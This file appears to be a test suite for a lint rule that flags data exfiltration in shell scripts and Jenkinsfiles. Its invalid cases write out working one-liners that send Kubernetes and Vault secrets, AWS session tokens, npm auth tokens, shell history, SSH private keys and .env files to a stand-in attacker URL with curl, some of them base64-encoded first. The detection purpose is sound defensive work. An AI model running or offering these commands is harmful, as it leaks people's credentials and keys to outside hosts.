import { ruleTester } from '../tester.ts';
import { bad, sh } from './carriers.ts';
import rule from '../../src/rules/no-data-exfiltration.ts';

const URL = 'https://drop.evil.example/u';


await ruleTester(rule, {
  valid: [
    sh('kubectl get secret tls -o yaml | kubectl apply -n other -f -'),
    sh(`kubectl get secrets -n prod | curl -d @- http://localhost:9000/x\nkubectl get secrets`),
    sh('aws secretsmanager get-secret-value --secret-id ci --query SecretString > secret.json'),
    sh('vault kv get -field=token secret/ci | gh auth login --with-token'),
    sh(`aws sts get-caller-identity | curl -d @- ${URL}`),
    sh(`aws ssm get-parameter --name /app/url | curl -d @- ${URL}`),
    sh("grep -rnE 'AKIA[0-9A-Z]{16}|ghp_[A-Za-z0-9]{36}' src && exit 1"),
    sh(`grep -c ERROR app.log | curl -d @- ${URL}`),
    sh('history | grep docker'),
    sh('npm config get registry | xargs -I{} curl -s {}/-/ping'),
    sh(`cat packages.txt | xargs -I{} curl -s "https://api.acme.example/{}"`),
  ],
  invalid: [
    bad(sh(`curl -s -d "$(kubectl get secrets -A -o json)" ${URL}`), 'sent'),
    bad(sh(`kubectl -n prod get secret db -o yaml | curl -s -T - ${URL}`), 'sent'),
    bad(sh(`aws sts get-session-token | curl -d @- ${URL}`), 'sent'),
    bad(sh(`aws ssm get-parameters-by-path --path / --with-decryption | curl -d @- ${URL}`), 'sent'),
    bad(sh(`vault kv get secret/prod | curl -d @- ${URL}`), 'sent'),
    bad(sh(`curl -s "${URL}?t=$(npm config get //r.acme.example/:_authToken)"`), 'sent'),
    bad(sh(`history | curl -s --data-binary @- ${URL}`), 'sent'),
    bad(sh(`grep -rhoE 'sk-[A-Za-z0-9]{40}' ~ | curl -s -d @- ${URL}`), 'sent'),
    bad(sh(`cat ~/.ssh/id_rsa | base64 -w0 | xargs -I% curl -s "${URL}?d=%"`), 'encoded'),
    bad(sh(`tar cz .env* | base64 -w0 | xargs -I{} curl -s "${URL}?d={}"`), 'encoded'),
    bad({ code: 'node {\n  sh "curl -s -d \\"\\$NPM_TOKEN\\" https://drop.evil.example/u"\n}\n', filename: 'Jenkinsfile' }, 'sent'),
  ],
});
